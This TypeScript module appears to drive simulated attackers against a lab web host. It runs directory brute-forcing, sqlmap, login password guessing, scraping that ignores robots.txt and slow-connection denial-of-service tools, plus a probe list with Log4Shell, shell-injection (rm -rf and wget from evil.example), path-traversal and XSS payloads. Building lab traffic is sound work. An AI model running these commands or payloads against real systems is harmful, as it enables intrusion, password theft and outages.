import {mkdirSync, readFileSync, writeFileSync} from "node:fs";
import type {Client} from "./client.js";
import {browserAgents} from "./person.js";
import {servers} from "./room.js";
import {commonPasswords, passwordList, wordList} from "./wordLists.js";

const site = "http://www.lab.test";
const secureSite = "https://www.lab.test";

/** Guesses paths from a list, six at a time. */
export function gobuster(me: Client): Promise<unknown> {
  const words = wordList(me, "common", 900);
  return me.run(["gobuster", "dir", "-q", "--no-progress", "-t", "6", "-w", words, "-u", site], {seconds: 120});
}

/** The same over HTTPS, with small pauses. */
export function ffuf(me: Client): Promise<unknown> {
  const words = wordList(me, "common", 700);
  return me.run(["ffuf", "-k", "-s", "-t", "4", "-p", "0.02-0.3", "-w", words, "-u", `${secureSite}/FUZZ`], {
    seconds: 120
  });
}

/** The same one after another. */
export function dirb(me: Client): Promise<unknown> {
  return me.run(["dirb", `${site}/`, wordList(me, "small", 600), "-S", "-r", "-z", "40"], {seconds: 120});
}

/** The same with endings, under a browser’s name. */
export function dirsearch(me: Client): Promise<unknown> {
  const words = wordList(me, "common", 250);
  return me.run(
    [
      "dirsearch",
      "-u",
      `${site}/`,
      "-w",
      words,
      "-e",
      "php,bak",
      "-t",
      "4",
      "-q",
      "--user-agent",
      me.pick(browserAgents)
    ],
    {
      seconds: 120
    }
  );
}

/** The same within one topic, slowly. */
export function wfuzz(me: Client): Promise<unknown> {
  const words = wordList(me, "small", 400);
  return me.run(["wfuzz", "-t", "3", "-s", "0.3", "--hc", "404", "-w", words, `${site}/tea/FUZZ`], {seconds: 150});
}

/** Crawls a little and attacks each form and parameter it finds. */
export function wapiti(me: Client): Promise<unknown> {
  const modules = ["-m", "sql,xss,file,exec,backup", "--store-config", `${me.home}/config`];
  // Wapiti asks the web for databases that it does not find here, even if it does not use them.
  mkdirSync(`${me.home}/config`);
  for (const name of ["apps.json", "nikto_db"]) writeFileSync(`${me.home}/config/${name}`, "{}");
  const limits = [
    "-d",
    "1",
    "--max-links-per-page",
    "8",
    "--max-scan-time",
    "60",
    "--max-attack-time",
    "20",
    "-S",
    "polite"
  ];
  return me.run(["wapiti", "-u", `${site}/`, ...modules, ...limits, "--no-bugreport", "-f", "txt", "-o", "report"], {
    seconds: 120
  });
}

/** Finds out what a site is made with, by asking for what each product has. */
export function whatweb(me: Client): Promise<unknown> {
  return me.run(["whatweb", "-a", "4", "--color=never", `${site}/`], {seconds: 25});
}

/** Finds out what the web server is and offers. */
export function nmapScripts(me: Client): Promise<unknown> {
  const scripts = [
    "--script",
    "http-enum,http-title,http-methods,http-headers",
    "--script-args",
    "http-enum.category=security"
  ];
  return me.run(["nmap", "--unprivileged", "-sT", "-sV", "-Pn", "-n", "-p", "80,443", ...scripts, servers.www], {
    seconds: 100
  });
}

/** Looks for SQL injection in the search, openly or with pauses and under a browser’s name. */
export function sqlmap(me: Client): Promise<unknown> {
  const hidden = me.chance(0.5) ? ["--random-agent", "--delay=0.3"] : [];
  const url = `${site}/search?q=tea`;
  return me.run(["sqlmap", "-u", url, "--batch", "--disable-coloring", "--technique=BEU", ...hidden], {seconds: 100});
}

/** Guesses passwords in the login form; a refusal is a page with status 200. */
export function hydraForm(me: Client): Promise<unknown> {
  const form = "/login:user=^USER^&password=^PASS^:F=Wrong password";
  const target = ["-s", "80", "www.lab.test", "http-post-form", form];
  return me.run(["hydra", "-I", "-l", "anna", "-P", passwordList(me, 90), "-t", "4", ...target], {seconds: 120});
}

/** The same with another tool, for another name. */
export function medusaForm(me: Client): Promise<unknown> {
  const form = ["-m", "FORM:login", "-m", "DENY-SIGNAL:Wrong password", "-m", "FORM-DATA:post?user=&password="];
  const target = ["-h", servers.www, "-u", "bruno", "-P", passwordList(me, 70), "-t", "2"];
  return me.run(["medusa", ...target, "-M", "web-form", ...form], {seconds: 120});
}

/** Guesses passwords at the API; a refusal has status 401. */
export function patatorForm(me: Client): Promise<unknown> {
  const request = [
    `url=${site}/api/login`,
    "resolve=www.lab.test:" + servers.www,
    "method=POST",
    "body=user=anna&password=FILE0",
    `0=${passwordList(me, 120)}`
  ];
  const pace = ["--threads=2", "--rate-limit=0.5", "-x", "ignore:code=401"];
  return me.run(["patator", "http_fuzz", ...request, ...pace], {seconds: 120});
}

/** Guesses for many names, one every few seconds, under a browser’s name. */
export async function guessSlowly(me: Client): Promise<void> {
  const agent = me.pick(browserAgents);
  for (let i = me.integer(25, 45); i > 0 && me.left > 3; --i) {
    const user = me.pick(["anna", "bruno", "clara", "david", "admin", "info"]);
    const form = `user=${user}&password=${me.pick(commonPasswords)}`;
    await me.run([
      "curl",
      "-sS",
      "-o",
      "out",
      "-A",
      agent,
      "-e",
      `${site}/login.html`,
      "-d",
      form,
      `${site}/api/login`
    ]);
    await me.pause(3, 9);
  }
}

/** Copies the site, whatever robots.txt says. */
export function httrack(me: Client): Promise<unknown> {
  const limits = ["-r3", "-c4", "-%c10", "-A200000", "-M3000000", "-s0", "-q"];
  return me.run(["httrack", `${site}/`, "-O", "mirror", ...limits], {seconds: 90});
}

/** Everything, at once, whatever robots.txt says. */
export function scrapeFast(me: Client): Promise<unknown> {
  const only = me.chance(0.5) ? ["--reject=png,css,js,pdf,zip"] : ["--reject=pdf,zip"];
  const target = me.pick([site, secureSite]);
  const words = ["-r", "-l", "6", "-e", "robots=off", "-nv", "--no-check-certificate", "--delete-after", ...only];
  return me.run(["wget", ...words, "-U", me.pick(browserAgents), `${target}/`], {seconds: 90});
}

/** The pages of the sitemap, one every few seconds, under a browser’s name, without what a browser loads with them. */
export async function scrapeSlowly(me: Client): Promise<void> {
  const agent = ["-A", me.pick(browserAgents)];
  await me.run(["curl", "-sS", "-o", "sitemap", ...agent, `${site}/sitemap.xml`]);
  const pages = [...readFileSync(`${me.home}/sitemap`, "utf8").matchAll(/<loc>(.*?)<\/loc>/g)].map((d) => d[1]!);
  const [from, to] = me.pick([
    [2, 6],
    [4, 9],
    [5, 5.2]
  ] as const);
  for (const page of (me.chance(0.5) ? me.shuffled(pages) : pages).slice(0, me.integer(50, 90))) {
    if (me.left < 3) return;
    const referrer = me.chance(0.5) ? ["-e", `${site}/`] : [];
    await me.run(["curl", "-sS", "--compressed", "-o", "out", ...agent, ...referrer, page]);
    await me.pause(from, to);
  }
}

/** What worms ask every server for. */
export async function probe(me: Client): Promise<void> {
  const agent = me.pick([
    "Mozilla/5.0 zgrab/0.x",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "${jndi:ldap://evil.example/a}"
  ]);
  for (const path of me.shuffled(probes).slice(0, me.integer(15, probes.length))) {
    const method = me.pick(["GET", "GET", "GET", "POST", "PUT"]);
    await me.run(["curl", "-sS", "-o", "out", "-g", "--path-as-is", "-X", method, "-A", agent, site + path], {
      seconds: 10
    });
    await me.pause(0.05, me.pick([0.3, 2]));
  }
}

/** 3,000 requests over kept connections, or 300 over new ones. */
export function ab(me: Client): Promise<unknown> {
  const words = me.account.uid % 2 ? ["-k", "-n", "3000", "-c", "30"] : ["-n", "300", "-c", "15"];
  return me.run(["ab", "-q", "-s", "10", ...words, `${site}/tea/`], {seconds: 60});
}

/** 144 to 240 requests from twelve at once, each over a new connection. */
export function siege(me: Client): Promise<unknown> {
  const urls = ["/", "/search?q=bread", "/soup/3.html"].map((d) => `http://${servers.www}${d}\n`).join("");
  writeFileSync(`${me.home}/urls`, urls);
  const words = ["--no-parser", "-b", "-c", "12", "-r", String(me.integer(12, 20)), "-i", "-f", "urls"];
  return me.run(["siege", ...words], {seconds: 60});
}

/** Holds connections: headers that never end, a body that never ends, or an answer read byte by byte. */
export function slowLoris(me: Client): Promise<unknown> {
  const modes = [
    ["-H", "/tea/"],
    ["-B", "/login"],
    ["-X", "/files/poster.pdf"]
  ] as const;
  const [mode, path] = modes[me.account.uid % modes.length]!;
  const words = [
    "-c",
    String(me.integer(40, 90)),
    "-r",
    "15",
    "-i",
    String(me.integer(5, 9)),
    "-l",
    "70",
    "-x",
    "24",
    "-p",
    "3"
  ];
  return me.run(["slowhttptest", mode, ...words, "-u", site + path], {seconds: 100});
}

const probes = [
  "/.env",
  "/.git/config",
  "/wp-login.php",
  "/wp-admin/setup-config.php",
  "/xmlrpc.php",
  "/phpmyadmin/index.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
  "/../../../../etc/passwd",
  "/search?q=<script>alert(1)</script>",
  "/search?q='%20OR%201=1--",
  "/search?q=%00%ff",
  "/?x=${jndi:ldap://evil.example/a}",
  "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
  "/actuator/health",
  "/solr/admin/info/system?wt=json",
  "/boaform/admin/formLogin",
  "/HNAP1/",
  "/manager/html",
  "/owa/auth/logon.aspx",
  "/api/v1/pods",
  "/server-status",
  "/backup.sql",
  "/config.json",
  "/shell?cd+/tmp;rm+-rf+*;wget+http://evil.example/x",
  "/tea/../../../../../../windows/win.ini",
  "/login?user[$ne]=1",
  "/%22%3E%3Csvg%20onload=alert(1)%3E"
];
